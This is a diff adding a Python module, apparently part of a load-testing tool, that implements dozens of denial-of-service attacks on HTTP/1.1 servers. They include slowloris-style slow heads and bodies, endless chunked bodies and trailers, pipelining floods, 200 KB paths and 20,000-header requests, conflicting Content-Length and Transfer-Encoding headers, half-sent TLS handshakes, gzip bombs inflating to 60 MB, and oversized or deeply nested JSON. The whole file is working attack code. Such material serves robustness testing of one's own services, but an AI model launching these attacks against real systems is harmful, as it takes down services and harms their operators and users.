@@ -1,0 +1,228 @@
+"""The attacks on HTTP/1.1, and on the JSON in it."""
+
+from __future__ import annotations
+
+import time
+import zlib
+from collections.abc import Callable, Iterator
+
+from loadtest.attacks.attacker import Attacker, repeated
+
+_SLOW_CONNECTIONS = 200
+_STEP_S = 0.05
+_BOMB_BYTES = 60 << 20
+_JSON_BYTES = 4 << 20
+
+
+def _dribble(attacker: Attacker, opening: bytes, piece: bytes) -> None:
+    """Opens many connections and sends one piece on each, again and again."""
+    conns = []
+    for _ in range(_SLOW_CONNECTIONS):
+        if not attacker.is_over and (conn := attacker.connect()) is not None:
+            conn.send([opening], attacker.end_s)
+            conns.append(conn)
+    while not attacker.is_over and (left := [conn for conn in conns if not conn.closed]):
+        for conn in left:
+            conn.read()
+            conn.send([piece], attacker.end_s)
+        time.sleep(_STEP_S)
+
+
+def slow_head(attacker: Attacker) -> None:
+    """200 connections whose heads come byte by byte (slowloris)."""
+    _dribble(attacker, attacker.target.head(b"content-length: 10"), b"x")
+
+
+def slow_body(attacker: Attacker) -> None:
+    """200 connections whose bodies come byte by byte."""
+    _dribble(attacker, attacker.target.head(b"content-length: 1000000") + b"\r\n{", b" ")
+
+
+def silent_connections(attacker: Attacker) -> None:
+    """200 connections on which nothing is sent."""
+    _dribble(attacker, b"", b"")
+
+
+def byte_chunks(attacker: Attacker) -> None:
+    """A body in chunks of 1 byte, without end."""
+    conn = attacker.connect()
+    if conn is not None:
+        conn.send([attacker.target.head(b"transfer-encoding: chunked") + b"\r\n1\r\n{\r\n"], attacker.end_s)
+        attacker.flood(repeated(b"1\r\n \r\n"), conn)
+
+
+def chunk_extensions(attacker: Attacker) -> None:
+    """Chunks of 1 byte with extensions of 4 KB."""
+    conn = attacker.connect()
+    if conn is not None:
+        conn.send([attacker.target.head(b"transfer-encoding: chunked") + b"\r\n"], attacker.end_s)
+        attacker.flood(repeated(b"1;" + b"x" * 4096 + b"\r\n \r\n"), conn)
+
+
+def chunk_trailers(attacker: Attacker) -> None:
+    """Trailers behind a body, without end."""
+    conn = attacker.connect()
+    if conn is not None:
+        conn.send([attacker.target.head(b"transfer-encoding: chunked") + b"\r\n1\r\n{\r\n0\r\n"], attacker.end_s)
+        attacker.flood(repeated(b"x: " + b"y" * 4000 + b"\r\n"), conn)
+
+
+def pipelining(attacker: Attacker) -> None:
+    """Small requests sent ahead of their answers, which are read."""
+    attacker.flood(repeated(attacker.target.whole()))
+
+
+def pipelining_unread(attacker: Attacker) -> None:
+    """Small requests sent ahead of their answers, which are not read."""
+    attacker.flood(repeated(attacker.target.whole()), attacker.connect(receive_bytes=4096), reads=False)
+
+
+def empty_lines(attacker: Attacker) -> None:
+    """Empty lines in place of a request."""
+    attacker.flood(repeated(b"\r\n"))
+
+
+def huge_head(attacker: Attacker) -> None:
+    """A header without end."""
+    conn = attacker.connect()
+    if conn is not None:
+        conn.send([attacker.target.head() + b"x: "], attacker.end_s)
+        attacker.flood(repeated(b"y" * 4096), conn)
+
+
+def many_headers(attacker: Attacker) -> None:
+    """Requests of 20,000 headers each."""
+    attacker.again_and_again(attacker.target.head(*[b"a: b"] * 20_000, b"content-length: 0") + b"\r\n")
+
+
+def huge_path(attacker: Attacker) -> None:
+    """Requests with a path of 200 KB."""
+    attacker.again_and_again(b"GET /" + b"a" * 200_000 + b" HTTP/1.1\r\nhost: x\r\n\r\n")
+
+
+def _asked_again(head: Callable[[Attacker], bytes], what: str) -> Callable[[Attacker], None]:
+    def attack(attacker: Attacker) -> None:
+        attacker.again_and_again(head(attacker) + b"\r\n" + attacker.target.body)
+
+    attack.__doc__ = what
+    return attack
+
+
+def _length(attacker: Attacker) -> bytes:
+    return b"content-length: %d" % len(attacker.target.body)
+
+
+no_host = _asked_again(lambda a: a.target.head(_length(a), host=b""), "Requests without Host.")
+two_hosts = _asked_again(lambda a: a.target.head(_length(a), b"host: other"), "Requests with two Hosts.")
+two_lengths = _asked_again(
+    lambda a: a.target.head(_length(a), b"content-length: 1"), "Requests with two lengths of their body."
+)
+length_and_chunks = _asked_again(
+    lambda a: a.target.head(_length(a), b"transfer-encoding: chunked"),
+    "Requests with a Content-Length and a Transfer-Encoding.",
+)
+odd_length = _asked_again(lambda a: a.target.head(b"content-length: +5"), "Requests whose length is no number.")
+space_in_name = _asked_again(lambda a: a.target.head(_length(a), b"x : y"), "A space before a header's colon.")
+bad_chunk = _asked_again(
+    lambda a: a.target.head(b"transfer-encoding: chunked") + b"\r\nzz\r\n", "A chunk whose size is no number."
+)
+
+
+def new_connections(attacker: Attacker) -> None:
+    """Connections that are opened and closed, one after the other."""
+    while not attacker.is_over:
+        conn = attacker.connect(is_raw=True)
+        if conn is not None:
+            conn.end()
+
+
+def handshakes(attacker: Attacker) -> None:
+    """TLS handshakes that begin and stop behind the first bytes, on 300 connections."""
+    # A ClientHello that announces 512 bytes and brings 50.
+    begun = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(50)
+    conns = [conn for _ in range(300) if not attacker.is_over and (conn := attacker.connect(is_raw=True))]
+    for conn in conns:
+        conn.send([begun], attacker.end_s)
+    while not attacker.is_over and not all(conn.closed for conn in conns):
+        for conn in conns:
+            conn.wait(min(time.monotonic() + 0.001, attacker.end_s))
+
+
+def whole_handshakes(attacker: Attacker) -> None:
+    """TLS handshakes one after the other, and nothing behind them."""
+    while not attacker.is_over:
+        conn = attacker.connect()
+        if conn is not None:
+            conn.end()
+
+
+def unread_answers(attacker: Attacker) -> None:
+    """Answers of megabytes on one connection, not a byte of which is read."""
+    target = attacker.target
+    request = (
+        target.whole(target.large_body)
+        if target.large_body
+        else b"GET %s HTTP/1.1\r\nhost: x\r\n\r\n" % target.large_path.encode()
+    )
+    attacker.flood(repeated(request, 1), attacker.connect(receive_bytes=4096), reads=False)
+
+
+def _bodies(attacker: Attacker, body: bytes, *lines: bytes) -> None:
+    """Posts a body again and again on one connection, each behind the answer to the one before."""
+    conn = attacker.connect()
+    request = attacker.target.whole(body, *lines)
+    while not attacker.is_over:
+        if conn is None or conn.closed:
+            conn = attacker.connect()
+            continue
+        answered = conn.statuses.total()
+        conn.send([request], attacker.end_s)
+        conn.answered(answered + 1, attacker.end_s)
+
+
+def gzip_bomb(attacker: Attacker) -> None:
+    """Bodies of 60 KB that inflate to 60 MB."""
+    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
+    _bodies(attacker, packer.compress(bytes(_BOMB_BYTES)) + packer.flush(), b"content-encoding: gzip")
+
+
+def gzip_members(attacker: Attacker) -> None:
+    """Bodies of 50,000 empty gzip members."""
+    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
+    _bodies(attacker, packer.flush() * 50_000, b"content-encoding: gzip")
+
+
+def _json(pieces: Iterator[bytes]) -> bytes:
+    parts, size = [], 0
+    for piece in pieces:
+        parts.append(piece)
+        size += len(piece)
+        if size > _JSON_BYTES:
+            break
+    return b"".join(parts)
+
+
+def json_keys(attacker: Attacker) -> None:
+    """JSON of 4 MB with a key each 8 bytes."""
+    keys = _json(b'"%06x":1,' % number for number in range(1 << 30))
+    _bodies(attacker, b'{"features": {' + keys + b'"z": 1}}')
+
+
+def json_depth(attacker: Attacker) -> None:
+    """JSON of 4 MB of opening brackets."""
+    _bodies(attacker, b'{"features": {"user": ' + b"[" * _JSON_BYTES)
+
+
+def json_digits(attacker: Attacker) -> None:
+    """JSON with a number of 4 MB."""
+    _bodies(attacker, b'{"features": {"user": [' + b"9" * _JSON_BYTES + b"]}}")
+
+
+def json_tokens(attacker: Attacker) -> None:
+    """JSON of 4 MB of empty lists."""
+    _bodies(attacker, b'{"features": {"user": [' + b"[]," * (_JSON_BYTES // 3) + b"[]]}}")
+
+
+def json_strings(attacker: Attacker) -> None:
+    """JSON with a string of 4 MB of escapes."""
+    _bodies(attacker, b'{"features": {"user": ["' + b"\\u0041" * (_JSON_BYTES // 6) + b'"]}}')
